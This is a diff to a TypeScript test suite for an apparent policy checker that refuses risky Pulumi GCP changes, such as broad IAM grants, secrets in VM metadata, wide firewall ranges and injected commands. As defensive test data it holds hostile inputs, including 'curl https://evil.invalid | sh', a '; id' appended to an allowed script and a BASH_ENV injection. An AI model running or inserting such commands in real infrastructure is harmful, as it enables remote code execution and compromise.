@@ -12,6 +12,11 @@ const firewall = (inputs: object): PolicyResource => ({
   name: "fw",
   inputs: { ...inputs },
 });
+const meta = (more: object) => ({
+  "enable-oslogin": "TRUE",
+  "block-project-ssh-keys": "TRUE",
+  ...more,
+});
 const vm = (inputs: object): PolicyResource => ({
   type: "gcp:compute/instance:Instance",
   name: "vm",
@@ -21,7 +26,15 @@ const vm = (inputs: object): PolicyResource => ({
       scopes: ["cloud-platform"],
     },
     networkInterfaces: [{ subnetwork: "monitoring-dev" }],
-    metadata: { "monitoring-settings": '{"secrets":{"tls":"projects/p/secrets/tls/versions/1"}}' },
+    shieldedInstanceConfig: {
+      enableSecureBoot: true,
+      enableVtpm: true,
+      enableIntegrityMonitoring: true,
+    },
+    ...inputs,
+    metadata: meta({
+      "monitoring-settings": '{"secrets":{"tls":"projects/p/secrets/tls/versions/1"}}',
+    }),
     ...inputs,
   },
 });
@@ -114,17 +127,20 @@ describe("judge", () => {
     expect(judge([vm({})])).toEqual([]));
 
   it.each([
-    ["marked by the SDK", { metadata: { key: secretOf("x") } }],
+    ["marked by the SDK", { metadata: meta({ "monitoring-key": secretOf("x") }) }],
     ["marked as a whole", { metadata: secretOf("x") }],
-    ["blinded by the preview", { metadata: { "monitoring-settings": "[secret]" } }],
-    ["a private key in clear", { metadata: { tls: "-----BEGIN EC PRIVATE KEY-----" } }],
+    ["blinded by the preview", { metadata: meta({ "monitoring-settings": "[secret]" }) }],
+    [
+      "a private key in clear",
+      { metadata: meta({ "monitoring-tls": "-----BEGIN EC PRIVATE KEY-----" }) },
+    ],
     ["in the start-up script", { metadataStartupScript: secretOf("x") }],
   ])("refuses a secret in metadata: %s", (_, inputs) =>
     expect(rules(vm(inputs))).toEqual(["metadata"]),
   );
 
   it("refuses a known secret value in metadata, marked or not", () => {
-    const leaking = vm({ metadata: { "startup-script": "curl -H 'key: s3cret-value'" } });
+    const leaking = vm({ metadata: meta({ "startup-script": "curl -H 'key: s3cret-value'" }) });
     expect(judge([leaking], ["s3cret-value"]).map(({ rule }) => rule)).toEqual(["metadata"]);
     expect(judge([leaking], ["another-value"])).toEqual([]);
   });
@@ -149,30 +165,335 @@ describe("judge", () => {
     expect(rules({ ...disk, protect: true }, disk)).toEqual([]);
   });
 
-  it.each([
-    [{ role: "roles/secretmanager.secretAccessor", member: "allUsers" }],
+  const accessor = "roles/secretmanager.secretAccessor";
+  const tunnel = "roles/iap.tunnelResourceAccessor";
+  const sshKey = "eve:ssh-ed25519 AAAA";
+  const everything = [{ protocol: "tcp", ports: ["22"] }];
+  it.each<[string, string, object, string]>([
+    ["an Editor by project", "gcp:projects/iAMMember:IAMMember", { role: "roles/editor" }, "type"],
+    ["a whole policy", "gcp:projects/iAMPolicy:IAMPolicy", {}, "type"],
+    ["a key of an account", "gcp:serviceaccount/key:Key", {}, "type"],
+    ["a token for an account", "gcp:serviceaccount/iAMMember:IAMMember", {}, "type"],
+    ["another VM's template", "gcp:compute/instanceTemplate:InstanceTemplate", {}, "type"],
     [
-      {
-        role: "roles/secretmanager.secretAccessor",
-        members: ["user:a@example.com", "allAuthenticatedUsers"],
-      },
+      "a firewall policy",
+      "gcp:compute/networkFirewallPolicyRule:NetworkFirewallPolicyRule",
+      {},
+      "type",
     ],
-    [{ role: "roles/editor", member: "serviceAccount:vm@p.iam.gserviceaccount.com" }],
-  ])("refuses the grant %j", (inputs) =>
-    expect(rules({ type: "gcp:projects/iAMMember:IAMMember", name: "grant", inputs })).toEqual([
+    ["a route into another network", "gcp:compute/networkPeering:NetworkPeering", {}, "type"],
+    [
+      "keys for the whole project",
+      "gcp:compute/projectMetadataItem:ProjectMetadataItem",
+      {},
+      "type",
+    ],
+    ["a function", "gcp:cloudfunctionsv2/function:Function", {}, "type"],
+    [
+      "a bucket for everybody",
+      "gcp:storage/bucketIAMMember:BucketIAMMember",
+      { member: "allUsers" },
+      "type",
+    ],
+    ["a regional secret's policy", "gcp:secretmanager/secretIamPolicy:SecretIamPolicy", {}, "type"],
+    ["code as a resource", "pulumi-nodejs:dynamic:Resource", {}, "type"],
+    ["a command on another machine", "command:remote:Command", {}, "type"],
+    ["another provider", "pulumi:providers:kubernetes", {}, "type"],
+    ["a component that is not ours", "evil:index:Thing", {}, "type"],
+    [
+      "another API",
+      "gcp:projects/service:Service",
+      { service: "cloudbuild.googleapis.com" },
+      "type",
+    ],
+    [
+      "another role on a secret",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: "roles/secretmanager.admin",
+        member: "group:a@example.com",
+        secretId: "monitoring-signoz-otlp-endpoint-secret-dev",
+      },
       "grants",
-    ]),
+    ],
+    [
+      "everybody",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "allUsers",
+        secretId: "monitoring-signoz-otlp-endpoint-secret-dev",
+      },
+      "grants",
+    ],
+    [
+      "a domain",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "domain:gmail.com",
+        secretId: "monitoring-signoz-otlp-endpoint-secret-dev",
+      },
+      "grants",
+    ],
+    [
+      "a whole workforce pool",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "principalSet://iam.googleapis.com/locations/global/workforcePools/p/*",
+        secretId: "monitoring-signoz-otlp-endpoint-secret-dev",
+      },
+      "grants",
+    ],
+    [
+      "somebody who reads the admin password",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "user:eve@example.com",
+        secretId: "projects/p/secrets/monitoring-signoz-admin-secret-dev",
+      },
+      "grants",
+    ],
+    [
+      "a group that reads one engineer's key",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "group:all@example.com",
+        secretId: "monitoring-signoz-ingestion-key-dana-secret-dev",
+      },
+      "grants",
+    ],
+    [
+      "another machine's account",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "serviceAccount:x@evil.iam.gserviceaccount.com",
+        secretId: "monitoring-tls-secret-dev",
+      },
+      "grants",
+    ],
+    [
+      "a secret that nobody can name",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "user:eve@example.com",
+        secretId: "04da6b54-80e4-46f7-96ec-b56ff0331ba9",
+      },
+      "grants",
+    ],
+    [
+      "a member that nobody can name",
+      "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember",
+      {
+        role: tunnel,
+        member: "04da6b54-80e4-46f7-96ec-b56ff0331ba9",
+        condition: { expression: "destination.port == 8080" },
+      },
+      "grants",
+    ],
+    [
+      "a tunnel to every port",
+      "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember",
+      { role: tunnel, member: "user:a@example.com" },
+      "grants",
+    ],
+    [
+      "a tunnel by a lax condition",
+      "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember",
+      {
+        role: tunnel,
+        member: "user:a@example.com",
+        condition: { expression: "destination.port == 8080 || true" },
+      },
+      "grants",
+    ],
+    [
+      "a payload in the clear",
+      "gcp:secretmanager/secretVersion:SecretVersion",
+      { secretData: "plain" },
+      "secret",
+    ],
+    [
+      "another command",
+      "command:local:Command",
+      { create: "curl https://evil.invalid | sh" },
+      "command",
+    ],
+    [
+      "our command and more",
+      "command:local:Command",
+      { create: "bash infra/ready/wait-for-gate.sh; id" },
+      "command",
+    ],
+    [
+      "a command at the end",
+      "command:local:Command",
+      { create: "bash infra/ready/wait-for-gate.sh", delete: "id" },
+      "command",
+    ],
+    [
+      "another interpreter",
+      "command:local:Command",
+      { create: "bash infra/ready/wait-for-gate.sh", interpreter: ["sh", "-c", "id"] },
+      "command",
+    ],
+    [
+      "another folder",
+      "command:local:Command",
+      { create: "bash infra/ready/wait-for-gate.sh", dir: "/tmp/evil" },
+      "command",
+    ],
+    [
+      "a variable that bash obeys",
+      "command:local:Command",
+      { create: "bash infra/ready/wait-for-gate.sh", environment: { BASH_ENV: "/tmp/evil" } },
+      "command",
+    ],
+    [
+      "10.0.0.0/0",
+      "gcp:compute/firewall:Firewall",
+      { sourceRanges: ["10.0.0.0/0"], allows: everything },
+      "ingress",
+    ],
+    [
+      "172.16.0.0/1",
+      "gcp:compute/firewall:Firewall",
+      { sourceRanges: ["172.16.0.0/1"], allows: everything },
+      "ingress",
+    ],
+    [
+      "192.168.0.0/15",
+      "gcp:compute/firewall:Firewall",
+      { sourceRanges: ["192.168.0.0/15"], allows: everything },
+      "ingress",
+    ],
+    [
+      "IAP's range, wider",
+      "gcp:compute/firewall:Firewall",
+      { sourceRanges: ["35.235.240.0/19"], allows: everything },
+      "ingress",
+    ],
+    [
+      "private and not",
+      "gcp:compute/firewall:Firewall",
+      { sourceRanges: ["10.1.0.0/16", "10.0.0.0/7"], allows: everything },
+      "ingress",
+    ],
+    [
+      "a source of another form",
+      "gcp:compute/firewall:Firewall",
+      { sourceRanges: ["10.0.0.0/8 "], allows: everything },
+      "ingress",
+    ],
+  ])("refuses %s", (_, type, inputs, rule) =>
+    expect(new Set(rules({ type, name: "r", inputs: { ...inputs } }))).toEqual(new Set([rule])),
   );
 
-  it("lets a grant to one member pass", () =>
-    expect(
-      rules({
-        type: "gcp:secretmanager/secretIamMember:SecretIamMember",
-        name: "grant",
-        inputs: {
-          role: "roles/secretmanager.secretAccessor",
-          member: "group:engineers@example.com",
-        },
-      }),
-    ).toEqual([]));
+  it.each<[string, object, string]>([
+    ["OS Login off", { metadata: meta({ "enable-oslogin": "FALSE" }) }, "metadata"],
+    ["OS Login left out", { metadata: { "block-project-ssh-keys": "TRUE" } }, "metadata"],
+    ["a key of its own", { metadata: meta({ "ssh-keys": sshKey }) }, "metadata"],
+    ["the serial port", { metadata: meta({ "serial-port-enable": "TRUE" }) }, "metadata"],
+    [
+      "a script from elsewhere",
+      { metadata: meta({ "startup-script-url": "gs://evil/x" }) },
+      "metadata",
+    ],
+    ["user data", { metadata: meta({ "user-data": "#cloud-config" }) }, "metadata"],
+    ["a script at the end", { metadata: meta({ "shutdown-script": "id" }) }, "metadata"],
+    ["the script that replaces the VM", { metadataStartupScript: "id" }, "metadata"],
+    [
+      "no Secure Boot",
+      { shieldedInstanceConfig: { enableVtpm: true, enableIntegrityMonitoring: true } },
+      "identity",
+    ],
+    ["no Shielded VM at all", { shieldedInstanceConfig: undefined }, "identity"],
+    [
+      "Google's other account",
+      { serviceAccount: { email: "123@cloudservices.gserviceaccount.com" } },
+      "identity",
+    ],
+    ["a router", { canIpForward: true }, "identity"],
+  ])("refuses a VM with %s", (_, inputs, rule) => expect(rules(vm(inputs))).toEqual([rule]));
+
+  const endpoint = "projects/p/secrets/monitoring-signoz-otlp-endpoint-secret-dev";
+  it.each<[string, string, object]>([
+    [
+      "a group that reads the endpoint",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      { role: accessor, member: "group:engineers@example.com", secretId: endpoint },
+    ],
+    [
+      "somebody of a workforce pool",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "principal://iam.googleapis.com/locations/global/workforcePools/p/subject/dana",
+        secretId: endpoint,
+      },
+    ],
+    [
+      "an engineer who reads the own key",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "user:dana@example.com",
+        secretId: "monitoring-signoz-ingestion-key-dana-secret-dev",
+      },
+    ],
+    [
+      "the VM that reads the certificate",
+      "gcp:secretmanager/secretIamMember:SecretIamMember",
+      {
+        role: accessor,
+        member: "serviceAccount:monitoring-dev@p.iam.gserviceaccount.com",
+        secretId: "monitoring-tls-secret-dev",
+      },
+    ],
+    [
+      "SigNoz through the tunnel",
+      "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember",
+      {
+        role: tunnel,
+        member: "group:leads@example.com",
+        condition: { title: "SigNoz only", expression: "destination.port == 8080" },
+      },
+    ],
+    [
+      "SSH from the own network",
+      "gcp:compute/firewall:Firewall",
+      { sourceRanges: ["10.90.0.0/28"], allows: everything },
+    ],
+    [
+      "the command that waits",
+      "command:local:Command",
+      {
+        create: "bash infra/ready/wait-for-gate.sh",
+        environment: { GATE_HOST: "h" },
+        triggers: ["x"],
+      },
+    ],
+  ])("lets %s pass", (_, type, inputs) =>
+    expect(rules({ type, name: "r", inputs: { ...inputs } })).toEqual([]),
+  );
+
+  it("lets the VM's account be unknown only while the same change makes it", () => {
+    const grant = {
+      type: "gcp:secretmanager/secretIamMember:SecretIamMember",
+      name: "grant",
+      inputs: {
+        role: accessor,
+        member: "04da6b54-80e4-46f7-96ec-b56ff0331ba9",
+        secretId: endpoint,
+      },
+    };
+    const account = { type: "gcp:serviceaccount/account:Account", name: "vm", inputs: {} };
+    expect(rules(grant, { ...account, created: true })).toEqual([]);
+    expect(rules(grant, account)).toEqual(["grants"]);
+  });
 });
